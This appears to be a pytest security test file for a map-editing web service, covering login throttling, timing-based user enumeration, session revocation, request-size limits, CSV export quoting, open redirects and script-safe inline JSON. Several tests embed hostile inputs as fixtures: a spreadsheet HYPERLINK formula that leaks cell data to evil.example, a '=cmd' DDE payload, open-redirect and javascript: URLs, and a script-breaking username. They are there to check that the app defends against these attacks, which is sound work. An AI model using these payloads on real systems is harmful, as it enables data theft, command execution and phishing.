"""Issue 17, from a hostile test battery: sign-in throttling and timing, sessions that end,
request-body limits, CSV formula injection, open redirects, inline JSON in pages, and
clear 400s instead of crashes for malformed edits."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
import statistics
import threading
import time

import pandas as pd
import pytest

from tests.conftest import BROWSER, SAMPLE
from web import auth, create_app
from web.auth import add_user
from web.throttle import Throttle

CELL = "/collections/grid/items/540102003004003"
PASSWORD = "long-secret"
# What the test battery found leaking to clients on a crash (pandas, werkzeug).
RAW = ("Traceback", "Series", "dtype", "indexer", "object has no attribute", "internal error")


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    """One service on a private copy of the sample (building one takes seconds); each test
    gets fresh sign-in state through :func:`fresh`."""
    where = tmp_path_factory.mktemp("secure")
    path = where / "city.gpkg"
    shutil.copy(SAMPLE, path)
    return create_app(
        {
            "DATASET": str(path),
            "SECRET_KEY": "security-tests",
            "SIGNED_OUT_FILE": str(where / "signed_out.json"),
        }
    )


def fresh(app, **config):
    """``app`` with ``config`` set and its sign-in state (throttle, memo, sign-outs) new."""
    defaults = {
        "LOGIN_MAX_FAILURES": 5,
        "LOGIN_MAX_FAILURES_PER_ADDRESS": 20,
        "LOGIN_FAILURE_WINDOW": 900,
        "LOGIN_LOCKOUT": 300,
        "SESSION_HOURS": 12,
        "MAX_CONTENT_LENGTH": 8 << 20,
        "MAX_JSON_BODY": 2 << 20,
    }
    app.config.update({**defaults, **config})
    auth.init_app(app)
    return app


def _basic(name, password):
    token = base64.b64encode(f"{name}:{password}".encode()).decode()
    return {"Authorization": "Basic " + token}


def _form_csrf(c, url="/login"):
    page = c.get(url).get_data(as_text=True)
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def _login(c, name, password, next_=None):
    data = {"csrf": _form_csrf(c), "name": name, "password": password}
    if next_ is not None:
        data["next"] = next_
    return c.post("/login", data=data)


def _session_csrf(c):
    with c.session_transaction() as s:
        return s.get("csrf")


def _as_planner(c, why=None):
    """Status of an editing request made with this client's session cookie: 404 (the
    cell does not exist) when signed in as a planner, 401 when not. ``why``: words the
    401 must say (why the session is over)."""
    r = c.put(
        "/collections/grid/items/no-such-cell",
        json={},
        headers={"X-CSRF-Token": _session_csrf(c) or "none"},
    )
    if why is not None:
        assert r.status_code == 401 and why in r.get_json()["description"], r.get_json()
    return r.status_code


# ---------------------------------------------------------------- 4. sign-in throttling
def test_repeated_failures_lock_the_account_even_for_the_right_password(app):
    fresh(app, LOGIN_MAX_FAILURES=3, LOGIN_LOCKOUT=1.0)
    add_user(app.extensions["gridmap"].store, "lock-ana", "planner", PASSWORD)
    c = app.test_client()
    assert [_login(c, "lock-ana", "wrong").status_code for _ in range(3)] == [401] * 3
    locked = _login(c, "lock-ana", PASSWORD)  # the right password, while locked
    assert locked.status_code == 429
    assert 1 <= int(locked.headers["Retry-After"]) <= 1
    page = locked.get_data(as_text=True)
    assert "登录失败次数过多" in page  # the message, in the page's language (Chinese)
    english = c.post(
        "/login?lang=en",
        data={"csrf": _form_csrf(c), "name": "lock-ana", "password": PASSWORD},
    )
    assert english.status_code == 429 and "too many failed sign-ins" in english.get_data(
        as_text=True
    )
    # HTTP Basic is the same account: refused too, as JSON through the error tree
    basic = c.put(CELL, json={}, headers=_basic("lock-ana", PASSWORD))
    assert basic.status_code == 429 and basic.headers["Retry-After"]
    body = basic.get_json()
    assert body["error"] == "too_many_attempts" and body["retry_after"] >= 1
    assert "登录失败次数过多" in body["message"]["zh"] and "too many" in body["message"]["en"]
    time.sleep(1.1)  # the lockout is over: the right password works again
    assert _login(c, "lock-ana", PASSWORD).status_code == 302


def test_basic_credentials_are_throttled_and_the_memo_still_works(app):
    fresh(app, LOGIN_MAX_FAILURES=2, LOGIN_LOCKOUT=60)
    store = app.extensions["gridmap"].store
    add_user(store, "memo-bo", "planner", PASSWORD)
    c = app.test_client()
    # the memo of verified passwords: a script's second request skips scrypt
    with app.test_request_context():
        t0 = time.perf_counter()
        assert auth.check_password(store, "memo-bo", PASSWORD)
        first = time.perf_counter() - t0
        t0 = time.perf_counter()
        assert auth.check_password(store, "memo-bo", PASSWORD)
        again = time.perf_counter() - t0
    assert again < first / 3
    assert (
        c.put(
            "/collections/grid/items/none", json={}, headers=_basic("memo-bo", PASSWORD)
        ).status_code
        == 404
    )
    for _ in range(2):
        assert c.put(CELL, json={}, headers=_basic("memo-bo", "wrong")).status_code == 401
    # locked: the remembered right password is refused as well
    assert c.put(CELL, json={}, headers=_basic("memo-bo", PASSWORD)).status_code == 429


def test_one_address_is_throttled_across_names_and_others_are_not(app):
    fresh(app, LOGIN_MAX_FAILURES=100, LOGIN_MAX_FAILURES_PER_ADDRESS=3, LOGIN_LOCKOUT=60)
    add_user(app.extensions["gridmap"].store, "addr-cy", "planner", PASSWORD)
    guesser = app.test_client()
    guesser.environ_base["REMOTE_ADDR"] = "10.0.0.66"
    for name in ("nobody-1", "nobody-2", "addr-cy"):
        assert guesser.put(CELL, json={}, headers=_basic(name, "guess")).status_code == 401
    # names that are no account count like real ones, so a lockout tells nothing
    assert guesser.put(CELL, json={}, headers=_basic("nobody-3", "guess")).status_code == 429
    assert (
        guesser.put(
            "/collections/grid/items/none", json={}, headers=_basic("addr-cy", PASSWORD)
        ).status_code
        == 429
    )
    elsewhere = app.test_client()
    elsewhere.environ_base["REMOTE_ADDR"] = "10.0.0.7"
    assert (
        elsewhere.put(
            "/collections/grid/items/none", json={}, headers=_basic("addr-cy", PASSWORD)
        ).status_code
        == 404
    )


def test_unknown_names_take_as_long_as_wrong_passwords(app):
    """User enumeration by timing: the battery measured 767 ms for a real name and 31 ms
    for a missing one. Both now pay for one scrypt check."""
    fresh(app, LOGIN_MAX_FAILURES=1000, LOGIN_MAX_FAILURES_PER_ADDRESS=1000)
    add_user(app.extensions["gridmap"].store, "time-di", "planner", PASSWORD)
    c = app.test_client()

    def took(name):
        t0 = time.perf_counter()
        assert c.put(CELL, json={}, headers=_basic(name, "wrong-password")).status_code == 401
        return time.perf_counter() - t0

    took("time-di"), took("no-such-user")  # warm up (the dummy hash is made once)
    known = statistics.median(took("time-di") for _ in range(3))
    unknown = statistics.median(took("no-such-user") for _ in range(3))
    assert 0.5 < unknown / known < 2.0, (known, unknown)


def test_throttle_state_is_bounded_and_thread_safe():
    t = Throttle(account_limit=400, address_limit=10**6, window=60, lockout=60, max_keys=100)

    def fail(n):
        for _ in range(50):
            t.failed("target", f"10.0.0.{n}")

    workers = [threading.Thread(target=fail, args=(n,)) for n in range(8)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    with pytest.raises(Exception) as err:  # 8 × 50 = 400 failures: not one lost
        t.check("target", "10.9.9.9")
    assert err.value.status == 429
    for i in range(1000):
        t.failed(f"name-{i}", "10.1.1.1")
    assert len(t) <= 100


def test_lockouts_belong_to_their_app(app, tmp_path):
    fresh(app, LOGIN_MAX_FAILURES=1, LOGIN_LOCKOUT=60)
    add_user(app.extensions["gridmap"].store, "own-ed", "planner", PASSWORD)
    c = app.test_client()
    c.put(CELL, json={}, headers=_basic("own-ed", "wrong"))
    assert c.put(CELL, json={}, headers=_basic("own-ed", PASSWORD)).status_code == 429
    assert "gridmap.auth" in app.extensions  # kept on the app, not in a module global
    fresh(app, LOGIN_MAX_FAILURES=1, LOGIN_LOCKOUT=60)  # a new app state knows nothing
    assert (
        c.put(
            "/collections/grid/items/none", json={}, headers=_basic("own-ed", PASSWORD)
        ).status_code
        == 404
    )


# ---------------------------------------------------------------- 5. sessions
def test_a_cookie_saved_before_logout_is_refused_after_it(app):
    fresh(app)
    add_user(app.extensions["gridmap"].store, "out-fay", "planner", PASSWORD)
    c = app.test_client()
    assert _login(c, "out-fay", PASSWORD).status_code == 302
    assert _as_planner(c) == 404
    saved = c.get_cookie("session").value
    with c.session_transaction() as s:
        token = s["csrf"]
    out = c.post("/logout", data={"csrf": token})
    assert out.status_code == 302
    replay = app.test_client()
    replay.set_cookie("session", saved)
    assert _as_planner(replay, why="this account signed out") == 401
    assert "out-fay" not in replay.get("/", headers=BROWSER).get_data(as_text=True)
    # a service restarted on the same instance folder still refuses it
    again = fresh(app)
    replay = again.test_client()
    replay.set_cookie("session", saved)
    assert _as_planner(replay) == 401
    # and signing in again gives a session that works
    assert _login(c, "out-fay", PASSWORD).status_code == 302 and _as_planner(c) == 404


def test_a_password_or_role_change_ends_old_sessions(app):
    fresh(app)
    store = app.extensions["gridmap"].store
    add_user(store, "chg-gus", "planner", PASSWORD)
    c = app.test_client()
    _login(c, "chg-gus", PASSWORD)
    assert _as_planner(c) == 404
    add_user(store, "chg-gus", "planner", "another-secret")  # the password changes
    assert _as_planner(c, why="password or role changed since you signed in") == 401
    _login(c, "chg-gus", "another-secret")
    assert _as_planner(c) == 404
    add_user(store, "chg-gus", "viewer", "another-secret")  # the role changes
    assert _as_planner(c) == 401


def test_sessions_expire(app):
    fresh(app, SESSION_HOURS=0.8 / 3600)  # 0.8 s
    add_user(app.extensions["gridmap"].store, "exp-hal", "planner", PASSWORD)
    c = app.test_client()
    signed = _login(c, "exp-hal", PASSWORD)
    assert "Expires=" in signed.headers["Set-Cookie"]  # the browser drops it too
    assert _as_planner(c) == 404
    saved = c.get_cookie("session").value
    time.sleep(1.0)
    assert _as_planner(c) == 401
    kept = app.test_client()  # a browser that kept the cookie past its expiry
    kept.set_cookie("session", saved)
    assert _as_planner(kept, why="your session has ended (sessions last 0.000222222 hours)") == 401


def test_security_settings_come_from_the_environment(monkeypatch, tmp_path):
    for name, value in {
        "GRIDMAP_COOKIE_SECURE": "1",
        "GRIDMAP_SESSION_HOURS": "2",
        "GRIDMAP_LOGIN_MAX_FAILURES": "7",
        "GRIDMAP_LOGIN_LOCKOUT": "30",
        "GRIDMAP_MAX_CONTENT_LENGTH": "1000000",
        "GRIDMAP_MAX_JSON_BODY": "50000",
    }.items():
        monkeypatch.setenv(name, value)
    app = create_app(
        {
            "DATASET": str(SAMPLE),
            "SECRET_KEY": "env-test",
            "SIGNED_OUT_FILE": str(tmp_path / "out.json"),
        }
    )
    cfg = app.config
    assert cfg["SESSION_COOKIE_SECURE"] is True
    assert cfg["PERMANENT_SESSION_LIFETIME"].total_seconds() == 7200
    assert cfg["LOGIN_MAX_FAILURES"] == 7 and cfg["LOGIN_LOCKOUT"] == 30
    assert cfg["MAX_CONTENT_LENGTH"] == 1000000 and cfg["MAX_JSON_BODY"] == 50000
    c = app.test_client()
    page = c.get("/login")
    assert "Secure" in page.headers["Set-Cookie"]


# ---------------------------------------------------------------- 8a. request limits
def test_bodies_over_the_limits_are_refused_before_parsing(app):
    fresh(app, MAX_CONTENT_LENGTH=256 * 1024, MAX_JSON_BODY=32 * 1024)
    c = app.test_client()
    huge = b'{"sites": [' + b"[91.1, 29.6]," * 30000 + b"[91.1, 29.6]]}"  # ~390 KB
    r = c.post("/coverage/whatif?kind=police_post", data=huge, content_type="application/json")
    assert r.status_code == 413
    body = r.get_json()
    assert body["error"] == "too_large" and body["limit"] == 256 * 1024
    assert "请求体超过" in body["message"]["zh"] and "larger than" in body["message"]["en"]
    # a JSON body over the tighter JSON limit, though under the overall one
    mid = b'{"sites": [' + b"[91.1, 29.6]," * 5000 + b"[91.1, 29.6]]}"  # ~65 KB
    r = c.post("/coverage/whatif?kind=police_post", data=mid, content_type="application/json")
    assert r.status_code == 413 and r.get_json()["limit"] == 32 * 1024
    # the sign-in form takes a few short fields
    r = c.post("/login", data={"csrf": "x", "name": "a" * 40000, "password": "p"})
    assert r.status_code == 413


def test_the_default_limit_refuses_a_large_unauthenticated_body(sample_app):
    assert sample_app.config["MAX_CONTENT_LENGTH"] <= 16 << 20
    c = sample_app.test_client()
    body = b" " * (sample_app.config["MAX_CONTENT_LENGTH"] + 1)
    r = c.post("/coverage/whatif?kind=police_post", data=body, content_type="application/json")
    assert r.status_code == 413 and r.get_json()["error"] == "too_large"


# ---------------------------------------------------------------- 9. injection, redirects
def test_csv_exports_quote_cells_that_start_like_formulas(app):
    fresh(app)
    store = app.extensions["gridmap"].store
    add_user(store, "@csv-ivy", "planner", PASSWORD)
    c = app.test_client()
    got = c.get(CELL)
    feature = got.get_json()
    feature["properties"] = {"households": feature["properties"]["households"] + 1}
    feature["reason"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    saved = c.put(
        CELL,
        json=feature,
        headers={"If-Match": got.headers["ETag"], **_basic("@csv-ivy", PASSWORD)},
    )
    assert saved.status_code == 200, saved.get_json()
    text = c.get("/collections/grid/changes?f=csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    mine = [r for r in rows if r["author"].endswith("csv-ivy")]
    assert mine and mine[0]["author"] == "'@csv-ivy"
    assert mine[0]["reason"].startswith("'") and "=HYPERLINK" in mine[0]["reason"]
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_frames_written_by_the_command_line_are_quoted():
    from layers.export import csv_safe

    moves = pd.DataFrame({"unit": ["=cmd|' /C calc'!A0", "540102001001001001"], "n": [-1, 2]})
    out = csv_safe(moves).to_csv(index=False)
    assert "'=cmd" in out and ",-1" in out  # numbers stay numbers


@pytest.mark.parametrize(
    "target",
    [
        "/\\evil.example/",
        "//evil.example/",
        "https://evil.example/",
        "/\\/evil.example",
        "\\\\evil.example",
        "/\tevil",
        "javascript:alert(1)",
        " //evil.example",
    ],
)
def test_next_stays_on_this_site(app, target):
    fresh(app)
    add_user(app.extensions["gridmap"].store, "next-jo", "planner", PASSWORD)
    c = app.test_client()
    page = c.get("/login", query_string={"next": target}).get_data(as_text=True)
    back = re.search(r'<a href="([^"]*)">', page).group(1)
    hidden = re.search(r'name="next" value="([^"]*)"', page).group(1)
    for href in (back, hidden):
        assert href.startswith("/") and not href.startswith("//") and "\\" not in href
        assert "evil" not in href
    done = _login(c, "next-jo", PASSWORD, next_=target)
    assert done.status_code == 302
    assert done.headers["Location"] in ("/", "http://localhost/")


def test_next_keeps_a_path_on_this_site(app):
    fresh(app)
    c = app.test_client()
    assert '<a href="/?lang=en">' in c.get("/login?next=/%3Flang%3Den").get_data(as_text=True)
    # the battery's own request: an encoded backslash, decoded to "/\evil.example/"
    assert '<a href="/">' in c.get("/login?next=/%5Cevil.example/").get_data(as_text=True)


def test_the_map_pages_inline_json_cannot_end_its_script(app):
    fresh(app)
    name = "<!--<script>"
    add_user(app.extensions["gridmap"].store, name, "planner", PASSWORD)
    c = app.test_client()
    assert _login(c, name, PASSWORD).status_code == 302
    page = c.get("/", headers=BROWSER).get_data(as_text=True)
    start = page.index("gridmap.start(")
    script = page[start : page.index("</script>", start)]
    assert "<script" not in script and "<!--" not in script and "</" not in script
    config, _ = json.JSONDecoder().raw_decode(script, script.index(", ") + 2)
    assert config["edit"]["user"]["name"] == name  # the data itself is kept


# ---------------------------------------------------------------- 6. messages, not crashes
@pytest.mark.parametrize("query", ["layer=grid", "layer=", "_method=PUT", "_method="])
def test_unknown_query_parameters_are_named(client, query):
    r = client.get(f"/collections/grid/items?{query}")
    assert r.status_code == 400
    body = r.get_json()
    assert body["parameter"] == query.split("=")[0]
    assert query.split("=")[0] in body["message"]["zh"]


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"properties": {"households": 1.5}}, "households"),
        ({"properties": {"households": "lots"}}, "households"),
        ({"properties": {"population": -3}}, "population"),
        ({"properties": {"households": True}}, "households"),
        ({"properties": {"households": 1e300}}, "households"),
        ({"properties": {"name": ["x"]}}, "name"),
        ({"properties": {"households": None}}, "households"),
        ({"properties": "many"}, "properties"),
        ({"reason": ["x"]}, "reason"),
        ({"reason": {"why": 1}}, "reason"),
        ({"geometry": {"type": "Polygon", "coordinates": "x"}}, "geometry"),
        ({"geometry": "POLYGON"}, "geometry"),
    ],
)
def test_malformed_edits_get_a_400_naming_what_is_wrong(app, change, named):
    fresh(app)
    add_user(app.extensions["gridmap"].store, "bad-kim", "planner", PASSWORD)
    c = app.test_client()
    got = c.get(CELL)
    feature = {**got.get_json(), "reason": "test", **change}
    if "properties" not in change:
        feature["properties"] = {"households": 7}
    r = c.put(
        CELL, json=feature, headers={"If-Match": got.headers["ETag"], **_basic("bad-kim", PASSWORD)}
    )
    assert r.status_code == 400, r.get_data(as_text=True)
    body = r.get_json()
    assert named in body["message"]["en"] and named in body["message"]["zh"]
    assert not any(raw in json.dumps(body) for raw in RAW)


def test_a_non_text_acceptance_is_a_400(app):
    fresh(app)
    add_user(app.extensions["gridmap"].store, "acc-lu", "planner", PASSWORD)
    c = app.test_client()
    got = c.get(CELL)
    feature = {**got.get_json(), "reason": "test", "accepted": ["x"]}
    feature["properties"] = {"households": 9}
    r = c.put(
        CELL, json=feature, headers={"If-Match": got.headers["ETag"], **_basic("acc-lu", PASSWORD)}
    )
    assert r.status_code == 400 and "accepted" in r.get_json()["message"]["en"]


def test_answers_do_not_show_where_the_dataset_is_stored(app):
    fresh(app)
    where = app.extensions["gridmap"].location
    c = app.test_client()
    for url in ("/", "/collections", "/collections/grid", "/conformance", "/api", "/findings"):
        for headers in ({}, BROWSER):
            r = c.get(url, headers=headers)
            assert where not in r.get_data().decode("utf-8", "replace"), url
    assert "city" in c.get("/").get_json()["description"]  # named, not located
